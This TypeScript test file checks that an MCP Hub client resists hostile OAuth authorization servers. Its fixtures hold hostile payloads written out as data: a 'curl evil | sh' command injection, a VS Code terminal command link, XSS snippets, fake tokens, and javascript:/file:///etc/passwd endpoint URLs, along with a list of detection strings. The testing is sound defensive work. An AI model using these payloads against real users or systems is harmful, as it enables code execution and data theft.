// Hostile authorization servers. A server MCP Hub signs in to names its authorization server, so that
// server may be anyone's: it can put markdown command links, markup or token-looking text in every
// error it sends, point its endpoints at javascript:, data:, file: or command: URLs, or take the
// place of the issuer a client secret belongs to. Whatever it does, the sign-in ends in our words
// (no hostile text in `message`), no client secret or private-key assertion reaches an issuer it
// does not belong to, and the session stored before stays byte for byte.
import assert from 'node:assert/strict';
import { createServer, type IncomingHttpHeaders, type Server } from 'node:http';
import { generateKeyPairSync } from 'node:crypto';
import type { AddressInfo } from 'node:net';
import { after, before, describe, it } from 'node:test';
import { auth as sdkAuth } from '@modelcontextprotocol/sdk/client/auth.js';
import type { AuthorizationServerMetadata } from '@modelcontextprotocol/sdk/shared/auth.js';
import { parseServers, type AuthSettings, type RemoteServerConfig } from '../../src/core/config';
import { systemClock } from '../../src/core/ports';
import { isOAuthFlowError, type OAuthFlowError } from '../../src/core/oauth/errors';
import { ServerAuth } from '../../src/core/oauth/server-auth';
import { MemorySecretStore, TokenStore, type OAuthSession } from '../../src/core/oauth/token-store';
import { startAuthorizationServer, type AuthorizationServerFixture } from '../fixtures/authorization-server';
import { startProtectedMcpServer, type ProtectedMcpServerFixture } from '../fixtures/protected-server';
import { ScriptedBrowser } from '../fixtures/scripted-browser';
import { freePort, MemoryLogger } from '../helpers';

/** Text a hostile server puts wherever it can; none of it may reach a message. */
const HOSTILE_TEXT = [
  '[Open the terminal](command:workbench.action.terminal.sendSequence?%7B%22text%22%3A%22curl%20evil%22%7D)',
  '<img src=x onerror="alert(1)"><script>alert(2)</script>',
  'ghp_0123456789abcdefABCDEF0123456789abcd',
  'eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiJhdHRhY2tlciJ9.c2lnbmF0dXJlLXZhbHVlLWhlcmU',
  '\u202e\n[error] your session expired, run $(curl evil | sh)',
];
/** Fragments that would show hostile text got through, even cut short or partly escaped. */
const TELLTALES = ['command:workbench', 'terminal.sendSequence', '<img', 'onerror', '<script', 'ghp_0123', 'eyJhbGciOi', '\u202e', '[error] your session', 'curl evil', 'alert('];
const CLIENT_SECRET = 'pre-registered-secret-5f1c9a7e3b2d';

interface Recorded {
  method: string;
  path: string;
  headers: IncomingHttpHeaders;
  body: string;
}
interface Reply {
  status: number;
  body: string | object;
  headers?: Record<string, string>;
}
interface Behaviour {
  /** Changes to the metadata document (endpoints, grants…). */
  metadata?: (base: Record<string, unknown>) => Record<string, unknown>;
  register?: (body: Record<string, unknown>) => Reply;
  token?: (form: URLSearchParams) => Reply;
  /** Where /authorize sends the browser: the callback with these parameters (state and iss are added). */
  authorize?: () => Record<string, string>;
}

/**
 * An authorization server that answers as `behaviour` says and records every request. It is
 * `localhost` (another origin than the legitimate one on 127.0.0.1): over http the SDK sends token
 * requests to no other loopback host, and a token_endpoint elsewhere is refused before the sign-in.
 */
async function startHostileAuthorizationServer(host = 'localhost') {
  const requests: Recorded[] = [];
  let behaviour: Behaviour = {};
  let issuerPath = '';
  const http: Server = createServer((req, res) => {
    const chunks: Buffer[] = [];
    req.on('data', (c: Buffer) => chunks.push(c));
    req.on('end', () => {
      const url = new URL(req.url ?? '/', origin);
      const body = Buffer.concat(chunks).toString('utf8');
      requests.push({ method: req.method ?? '', path: url.pathname, headers: req.headers, body });
      const send = (r: Reply) => {
        const text = typeof r.body === 'string' ? r.body : JSON.stringify(r.body);
        res.writeHead(r.status, { 'content-type': typeof r.body === 'string' ? 'text/html' : 'application/json', ...r.headers }).end(text);
      };
      if (url.pathname.startsWith('/.well-known/oauth-authorization-server') || url.pathname.endsWith('/.well-known/openid-configuration')) {
        const issuer = origin + issuerPath;
        const base = {
          issuer,
          authorization_endpoint: `${origin}/authorize`,
          token_endpoint: `${origin}/token`,
          registration_endpoint: `${origin}/register`,
          response_types_supported: ['code'],
          grant_types_supported: ['authorization_code', 'refresh_token', 'client_credentials'],
          code_challenge_methods_supported: ['S256'],
          token_endpoint_auth_methods_supported: ['client_secret_basic', 'client_secret_post', 'private_key_jwt', 'none'],
          authorization_response_iss_parameter_supported: true,
        };
        return send({ status: 200, body: behaviour.metadata ? behaviour.metadata(base) : base });
      }
      if (url.pathname === '/register') {
        const parsed = JSON.parse(body || '{}') as Record<string, unknown>;
        return send(behaviour.register?.(parsed) ?? { status: 201, body: { ...parsed, client_id: 'hostile-client' } });
      }
      if (url.pathname === '/token') return send(behaviour.token?.(new URLSearchParams(body)) ?? { status: 400, body: { error: 'invalid_grant' } });
      if (url.pathname === '/authorize') {
        const target = new URL(url.searchParams.get('redirect_uri') ?? 'http://127.0.0.1:1/callback');
        const params = behaviour.authorize?.() ?? { code: 'hostile-code' };
        for (const [k, v] of Object.entries(params)) target.searchParams.set(k, v);
        target.searchParams.set('state', url.searchParams.get('state') ?? '');
        target.searchParams.set('iss', origin + issuerPath);
        res.writeHead(302, { location: target.href }).end();
        return;
      }
      send({ status: 404, body: 'not found' });
    });
  });
  await new Promise<void>((resolve) => http.listen(0, '127.0.0.1', resolve));
  const origin = `http://${host}:${(http.address() as AddressInfo).port}`;
  return {
    origin,
    get issuer() {
      return origin + issuerPath;
    },
    requests,
    behave(next: Behaviour, path = '') {
      behaviour = next;
      issuerPath = path;
      requests.length = 0;
    },
    // What the protected-server fixture calls on the authorization server it moves to.
    addResource() {},
    removeResource() {},
    async close() {
      http.closeAllConnections();
      await new Promise((r) => http.close(r));
    },
  };
}
type HostileAs = Awaited<ReturnType<typeof startHostileAuthorizationServer>>;

/** A resource server on 127.0.0.1 that answers 401 and names `as` as its authorization server. */
async function startResourceNaming(as: () => string) {
  const http = createServer((req, res) => {
    const url = new URL(req.url ?? '/', 'http://127.0.0.1');
    if (url.pathname.startsWith('/.well-known/oauth-protected-resource')) {
      res.writeHead(200, { 'content-type': 'application/json' }).end(JSON.stringify({ resource: resource(), authorization_servers: [as()], scopes_supported: ['mcp:read'] }));
      return;
    }
    res.writeHead(401, { 'www-authenticate': `Bearer resource_metadata="${new URL('/.well-known/oauth-protected-resource/mcp', resource()).href}"` }).end();
  });
  await new Promise<void>((resolve) => http.listen(0, '127.0.0.1', resolve));
  const resource = () => `http://127.0.0.1:${(http.address() as AddressInfo).port}/mcp`;
  return {
    url: resource(),
    async close() {
      http.closeAllConnections();
      await new Promise((r) => http.close(r));
    },
  };
}

const tally = { servers: 0, flowsEnded: 0, reflections: 0, secretsSeen: 0, dataLost: 0 };

describe('hostile authorization servers', () => {
  let hostile: HostileAs;
  let resource: Awaited<ReturnType<typeof startResourceNaming>>;
  let legit: AuthorizationServerFixture;
  let mcp: ProtectedMcpServerFixture;
  let callbackPort: number;

  before(async () => {
    hostile = await startHostileAuthorizationServer();
    resource = await startResourceNaming(() => hostile.issuer);
    callbackPort = await freePort();
    legit = await startAuthorizationServer({
      clients: [
        {
          client_id: 'hub-confidential',
          client_secret: CLIENT_SECRET,
          application_type: 'native',
          redirect_uris: [`http://127.0.0.1:${callbackPort}/callback`],
          grant_types: ['authorization_code', 'refresh_token'],
          response_types: ['code'],
        },
        { client_id: 'hub-m2m', client_secret: CLIENT_SECRET, grant_types: ['client_credentials'], redirect_uris: [], response_types: [] },
      ],
    });
    mcp = await startProtectedMcpServer({ authorizationServer: legit });
  });
  after(async () => {
    await mcp.close();
    await legit.close();
    await resource.close();
    await hostile.close();
    console.log(
      `security[auth-server]: hostile authorization servers ${tally.servers}, flows ended ${tally.flowsEnded}, reflections ${tally.reflections}, secrets seen ${tally.secretsSeen}, data lost ${tally.dataLost}`,
    );
  });

  function serverAuth(url: string, secrets: MemorySecretStore, settings: AuthSettings = {}, browser = new ScriptedBrowser()) {
    const entry = parseServers({ target: { url, auth: settings } }, 'user')[0];
    assert.ok(entry.ok, JSON.stringify(entry));
    const opened: string[] = [];
    const a = new ServerAuth(entry.config as RemoteServerConfig, {
      store: new TokenStore(secrets),
      browser: {
        open: async (u) => {
          opened.push(u);
          void browser.open(u).catch(() => undefined);
          return true;
        },
      },
      logger: new MemoryLogger(),
      clock: systemClock,
    });
    return { a, opened };
  }

  /** A working session for `url`, stored before the hostile server gets its turn. */
  async function storedSession(url: string): Promise<MemorySecretStore> {
    const secrets = new MemorySecretStore();
    const session: OAuthSession = {
      resource: url,
      issuer: 'https://as.example.com',
      tokens: { access_token: 'stored-access-token-value-1234567890', refresh_token: 'stored-refresh-token-value-1234567890', token_type: 'Bearer', scope: 'mcp:read' },
      client: { client_id: 'stored-client', redirect_uri: 'http://127.0.0.1:1/callback', kind: 'dcr' },
      updatedAt: 0,
    };
    await new TokenStore(secrets).update(url, () => session);
    return secrets;
  }

  async function snapshot(secrets: MemorySecretStore): Promise<string> {
    return JSON.stringify(
      await Promise.all(
        secrets
          .keys()
          .sort()
          .map(async (k) => [k, await secrets.get(k)]),
      ),
    );
  }

  /** Counts what a hostile case did wrong; the test asserts every count is zero. */
  function judge(error: unknown, before: string, after: string, hostileText: string[], secrets: string[] = [CLIENT_SECRET]) {
    tally.servers++;
    if (!isOAuthFlowError(error)) tally.flowsEnded++;
    const message = error instanceof Error ? error.message : String(error);
    if ([...TELLTALES, ...hostileText].some((t) => message.includes(t))) tally.reflections++;
    const sent = hostile.requests.map((r) => `${JSON.stringify(r.headers)} ${r.body} ${Buffer.from((r.headers.authorization ?? '').replace(/^Basic /, ''), 'base64').toString()}`);
    if (sent.some((s) => secrets.some((x) => s.includes(x)) || s.includes('client_assertion'))) tally.secretsSeen++;
    if (before !== after) tally.dataLost++;
    return { message, error: error as OAuthFlowError };
  }

  async function hostileSignIn(behaviour: Behaviour, hostileText: string[], path = '', settings: AuthSettings = {}) {
    hostile.behave(behaviour, path);
    const secrets = await storedSession(resource.url);
    const before = await snapshot(secrets);
    const { a } = serverAuth(resource.url, secrets, settings);
    const error = await a.signIn({ signal: new AbortController().signal }).then(
      () => new Error('the sign-in against a hostile authorization server succeeded'),
      (e: unknown) => e,
    );
    a.dispose();
    return judge(error, before, await snapshot(secrets), hostileText, [CLIENT_SECRET, 'stored-access-token-value', 'stored-refresh-token-value']);
  }

  it('ends in our words whatever text the authorization server sends back', async () => {
    const reflected: string[] = [];
    for (const text of HOSTILE_TEXT) {
      const cases: Behaviour[] = [
        { authorize: () => ({ error: 'access_denied', error_description: text }) },
        { authorize: () => ({ error: text }) },
        { authorize: () => ({ error: 'invalid_scope', error_description: text }) },
        { token: () => ({ status: 400, body: { error: 'invalid_grant', error_description: text } }) },
        { token: () => ({ status: 400, body: { error: text, error_description: text } }) },
        { token: () => ({ status: 400, body: { error: 'invalid_scope', error_description: text } }) },
        { token: () => ({ status: 502, body: `<html><body>${text}</body></html>` }) },
        { token: () => ({ status: 200, body: { access_token: 42, token_type: text } }) },
        { register: () => ({ status: 400, body: { error: 'invalid_client_metadata', error_description: text } }) },
        { register: () => ({ status: 500, body: text }) },
        { metadata: (m) => ({ ...m, grant_types_supported: [text] }) },
      ];
      for (const behaviour of cases) {
        const { message, error } = await hostileSignIn(behaviour, [text]);
        if (!isOAuthFlowError(error)) reflected.push(`not an OAuthFlowError: ${message}`);
        else if ([...TELLTALES, text].some((t) => message.includes(t))) reflected.push(message);
      }
    }
    assert.deepEqual(reflected, [], 'every message in our words');
  });

  it('names an issuer with a hostile path by its origin only', async () => {
    const path = '/[Run](command:workbench.action.terminal.new)';
    const { message, error } = await hostileSignIn({ metadata: (m) => ({ ...m, grant_types_supported: ['client_credentials'] }) }, ['workbench.action'], path);
    assert.equal(error.code, 'grant_unsupported');
    assert.ok(message.includes(`${hostile.origin}/…`), message);
  });

  it('refuses endpoints with javascript:, data:, file: and command: schemes before anything is sent there', async () => {
    const urls = [
      'javascript:alert(1)//',
      'data:text/html,<script>alert(1)</script>',
      'file:///etc/passwd',
      'command:workbench.action.terminal.new',
      'vscode://evil.extension/run?x=1',
    ];
    for (const url of urls) {
      for (const endpoint of ['authorization_endpoint', 'token_endpoint', 'registration_endpoint']) {
        const { message, error } = await hostileSignIn({ metadata: (m) => ({ ...m, [endpoint]: url }) }, ['alert(1)', '/etc/passwd', 'workbench.action', 'evil.extension']);
        assert.ok(['unsafe_url', 'invalid_metadata'].includes(error.code), `${error.code}: ${message}`);
        assert.deepEqual(
          hostile.requests.map((r) => r.path).filter((p) => !p.includes('/.well-known/')),
          [],
          'nothing but discovery reached it',
        );
      }
    }
  });

  it('never sends a pre-registered client secret or private-key assertion to another issuer', async () => {
    // A first sign-in binds the confidential client to the issuer it belongs to.
    const secrets = new MemorySecretStore();
    const settings = { clientId: 'hub-confidential', clientSecret: CLIENT_SECRET, callbackPort };
    const first = serverAuth(mcp.url, secrets, settings);
    await first.a.signIn({ signal: new AbortController().signal });
    first.a.dispose();
    assert.equal(await new TokenStore(secrets).boundIssuer(mcp.url, 'hub-confidential'), legit.issuer);
    const before = await snapshot(secrets);

    // The server now names the hostile authorization server: browser sign-in.
    hostile.behave({});
    mcp.moveTo(hostile as unknown as AuthorizationServerFixture);
    try {
      const again = serverAuth(mcp.url, secrets, settings);
      const error = await again.a.signIn({ signal: new AbortController().signal }).catch((e: unknown) => e);
      again.a.dispose();
      const { message } = judge(error, before, await snapshot(secrets), []);
      assert.ok(isOAuthFlowError(error, 'issuer_not_allowed'), message);
      assert.equal(
        message,
        `The client credentials in settings belong to ${legit.issuer}, but ${mcp.url} now names the authorization server ${hostile.origin}; MCP Hub did not send them. Set auth.issuer if this is intended.`,
      );
      assert.equal(again.opened.length, 0, 'no browser trip to the other issuer');
      assert.deepEqual(
        hostile.requests.map((r) => r.path).filter((p) => !p.includes('/.well-known/')),
        [],
      );

      // The same through client credentials.
      hostile.behave({ token: () => ({ status: 200, body: { access_token: 'x', token_type: 'Bearer' } }) });
      const m2m = serverAuth(mcp.url, secrets, { clientId: 'hub-confidential', clientSecret: CLIENT_SECRET, grantType: 'client_credentials' });
      const m2mError = await m2m.a.signIn({ signal: new AbortController().signal }).catch((e: unknown) => e);
      m2m.a.dispose();
      judge(m2mError, before, await snapshot(secrets), []);
      assert.ok(isOAuthFlowError(m2mError, 'issuer_not_allowed'), String(m2mError));
    } finally {
      mcp.moveTo(legit);
    }

    // auth.issuer names the issuer outright; a private key is held back just like a secret.
    const { privateKey } = generateKeyPairSync('rsa', { modulusLength: 2048 });
    const pem = privateKey.export({ format: 'pem', type: 'pkcs8' }).toString();
    for (const credentials of [{ clientSecret: CLIENT_SECRET }, { privateKey: pem }]) {
      for (const grantType of ['authorization_code', 'client_credentials'] as const) {
        hostile.behave({ token: () => ({ status: 200, body: { access_token: 'x', token_type: 'Bearer' } }) });
        const stored = await storedSession(resource.url);
        const was = await snapshot(stored);
        const { a, opened } = serverAuth(resource.url, stored, { clientId: 'hub-confidential', issuer: legit.issuer, grantType, ...credentials });
        const error = await a.signIn({ signal: new AbortController().signal }).catch((e: unknown) => e);
        a.dispose();
        judge(error, was, await snapshot(stored), [], [CLIENT_SECRET, '-----BEGIN']);
        assert.ok(isOAuthFlowError(error, 'issuer_not_allowed'), String(error));
        assert.equal(opened.length, 0);
      }
    }
  });

  it('holds the credentials back on refresh when the stored session names another issuer', async () => {
    // A session whose discovery names the hostile server (stored before the binding, or tampered with).
    hostile.behave({ token: () => ({ status: 200, body: { access_token: 'stolen', token_type: 'Bearer', refresh_token: 'r' } }) });
    const secrets = new MemorySecretStore();
    const store = new TokenStore(secrets);
    await store.bindIssuer(resource.url, 'hub-confidential', legit.issuer);
    const metadata = (await (await fetch(`${hostile.origin}/.well-known/oauth-authorization-server`)).json()) as AuthorizationServerMetadata;
    hostile.requests.length = 0;
    await store.update(resource.url, () => ({
      resource: resource.url,
      issuer: hostile.issuer,
      discovery: {
        authorizationServerUrl: hostile.issuer,
        authorizationServerMetadata: metadata,
        resourceMetadata: { resource: resource.url, authorization_servers: [hostile.issuer] },
      },
      tokens: { access_token: 'old-access-token-abcdef123456', refresh_token: 'old-refresh-token-abcdef123456', token_type: 'Bearer' },
      expiresAt: Date.now() - 1_000,
      lifetimeMs: 3_600_000,
      updatedAt: 0,
    }));
    const before = await snapshot(secrets);
    const { a } = serverAuth(resource.url, secrets, { clientId: 'hub-confidential', clientSecret: CLIENT_SECRET });

    // The proactive refresh.
    await a.refreshIfDue();
    assert.equal(hostile.requests.length, 0, 'no refresh request went out');
    assert.equal(await snapshot(secrets), before);

    // The refresh the SDK's transport would run on a 401, through the passive provider.
    const provider = await a.transportProvider();
    assert.ok(provider);
    const error = await sdkAuth(provider, { serverUrl: resource.url, fetchFn: a.fetch }).catch((e: unknown) => e);
    a.dispose();
    judge(error, before, await snapshot(secrets), []);
    assert.ok(isOAuthFlowError(error, 'issuer_not_allowed'), String(error));
    assert.deepEqual(
      hostile.requests.filter((r) => r.path === '/token'),
      [],
    );
  });

  it('counted nothing wrong', () => {
    assert.ok(tally.servers > 0);
    assert.deepEqual(
      { flowsEnded: tally.flowsEnded, reflections: tally.reflections, secretsSeen: tally.secretsSeen, dataLost: tally.dataLost },
      { flowsEnded: 0, reflections: 0, secretsSeen: 0, dataLost: 0 },
    );
  });
});
